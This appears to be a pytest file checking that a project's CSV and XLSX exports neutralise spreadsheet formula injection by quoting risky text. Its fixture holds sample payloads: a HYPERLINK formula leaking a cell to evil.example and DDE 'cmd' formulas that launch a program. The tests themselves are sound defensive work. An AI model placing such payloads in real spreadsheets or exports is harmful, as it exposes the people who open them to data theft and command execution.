"""Exports are safe to open (issue 13, point 5).

Text that a spreadsheet would run as a formula (it starts with ``=``, ``+``, ``-``, ``@``, a
tab or a carriage return) is written with a quote in front in every CSV and XLSX KIP makes:
the export service, the API's and the web's export, ``kip export`` and ``kip clashes list
--format csv``. An XLSX holds no formula cell, its text cells are typed text, and numbers
and dates stay numbers and dates. Each file is read back as a spreadsheet would get it:
CSV with the csv module, XLSX with openpyxl.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from openpyxl import load_workbook
from shapely import LineString
from sqlalchemy import select
from sqlalchemy.orm import Session

from kip.actors import Actor
from kip.cli import main
from kip.io import writers
from kip.models import Clash
from kip.services.exports import WorkFilter, export_works

SYSTEM = Actor.system("test")


@pytest.fixture
def plan(session: Session, make_org, make_work) -> dict[str, Any]:
    """A public work whose every text field is a formula, under an organisation named like one."""
    tag = uuid.uuid4().hex[:8]
    org = make_org(f"@SUM(1+1)*cmd|' /C calc'!A0 {tag}")
    texts = {
        "title": f'=HYPERLINK("https://evil.example/?d="&B2,"Klik {tag}")',
        "description": "\t=1+1",
        "contact_name": "-2+3",
        "contact_email": "@SUM(A1)",
        "contact_phone": "+31 6 12345678",
        "external_ref": "\r=2+2",
        "tags": "=cmd|' /C calc'!A0",
        "organisation": org.name,
    }
    work = make_work(
        org,
        **{k: v for k, v in texts.items() if k not in ("tags", "organisation")},
        tags=[texts["tags"]],
        visibility="public",
        phase="planned",
        budget=Decimal("12500"),
    )
    session.flush()
    return {"tag": tag, "texts": texts, "work": work, "org": org}


def _export(app, client, tmp_path: Path, session: Session, how: str, fmt: str, tag: str) -> bytes:
    if how == "service":
        return export_works(session, SYSTEM, fmt, WorkFilter(q=tag)).data
    if how == "api":
        response = client.get(f"/api/v1/exports?format={fmt}&q={tag}")
        assert response.status_code == 200, response.data
        return response.data
    if how == "web":
        response = client.get(f"/works/export?format={fmt}&q={tag}")
        assert response.status_code == 200, response.data
        return response.data
    out = tmp_path / f"export.{fmt}"
    result = app.test_cli_runner().invoke(
        main, ["export", "--format", fmt, "--q", tag, "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    return out.read_bytes()


WAYS = ["service", "api", "web", "cli"]


@pytest.mark.parametrize("how", WAYS)
def test_csv_exports_write_formulas_as_text(
    app, client, tmp_path: Path, session: Session, plan, how: str
) -> None:
    data = _export(app, client, tmp_path, session, how, "csv", plan["tag"])
    [row] = csv.DictReader(io.StringIO(data.decode("utf-8"), newline=""))
    for name, text in plan["texts"].items():
        assert row[name] == "'" + text, name
    assert row["kip_id"] == str(plan["work"].id)
    assert row["budget"] == "12500.0"
    assert row["start_date"] == "2027-03-01"


@pytest.mark.parametrize("how", WAYS)
def test_xlsx_exports_hold_no_formula(
    app, client, tmp_path: Path, session: Session, plan, how: str
) -> None:
    data = _export(app, client, tmp_path, session, how, "xlsx", plan["tag"])
    sheet = load_workbook(io.BytesIO(data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header, row = ([c.value for c in r] for r in sheet.iter_rows())
    typed = dict(zip(header, sheet[2], strict=True))
    for name, text in plan["texts"].items():
        assert typed[name].data_type == "s", name
        # XML reads a carriage return in a text as a line feed.
        assert typed[name].value == "'" + text.replace("\r", "\n"), name
    assert typed["budget"].data_type == "n" and typed["budget"].value == 12500
    assert typed["kip_id"].value == plan["work"].id
    assert typed["start_date"].is_date and typed["start_date"].value == datetime(2027, 3, 1)
    assert row[header.index("visibility")] == "public"


def test_the_clash_list_as_csv_writes_formulas_as_text(
    app, connection, session: Session, make_org, make_work
) -> None:
    org = make_org(f"Kabels {uuid.uuid4().hex[:8]}")
    a = make_work(org, title="Kabel A")
    make_work(org, title="Kabel B")
    clash = session.execute(select(Clash).where(Clash.work_a_id == a.id)).scalars().first()
    assert clash is not None
    clash.rule.name = "=1+1"  # a rule's name opens its facts sentence
    session.flush()

    result = app.test_cli_runner().invoke(
        main, ["clashes", "list", "--format", "csv", "--organisation", str(org.id)]
    )

    assert result.exit_code == 0, result.output
    listed = csv.DictReader(io.StringIO(result.output, newline=""))
    rows = [r for r in listed if r["id"] == str(clash.id)]
    assert rows and rows[0]["facts"].startswith("'=1+1 (")
    assert rows[0]["distance_m"] == str(clash.distance_m)


def test_numbers_and_dates_stay_what_they_are() -> None:
    """A negative number starts with ``-`` too: it stays a number; text does not. Text that
    reads like an error value stays text too."""
    record = {
        "title": "-5",
        "note": "@here",
        "error": "#N/A",
        "budget": Decimal("-12.50"),
        "delta": -3,
        "start_date": date(2027, 3, 1),
        "excavation": True,
    }
    names = list(record)
    geometries = np.array([LineString([(5.6, 52.0), (5.61, 52.01)])], dtype=object)

    data = writers.write_csv([record], geometries, names).decode()
    [row] = csv.DictReader(io.StringIO(data, newline=""))
    assert (row["title"], row["note"]) == ("'-5", "'@here")
    assert (row["budget"], row["delta"], row["start_date"]) == ("-12.5", "-3", "2027-03-01")
    assert row["excavation"] == "true" and row["wkt"].startswith("LINESTRING (5.6 52")

    sheet = load_workbook(io.BytesIO(writers.write_xlsx([record], geometries, names))).active
    cells = dict(zip([c.value for c in sheet[1]], sheet[2], strict=True))
    assert (cells["title"].value, cells["title"].data_type) == ("'-5", "s")
    assert (cells["error"].value, cells["error"].data_type) == ("#N/A", "s")
    assert (cells["budget"].value, cells["budget"].data_type) == (-12.5, "n")
    assert (cells["delta"].value, cells["delta"].data_type) == (-3, "n")
    assert cells["start_date"].is_date and cells["excavation"].value is True
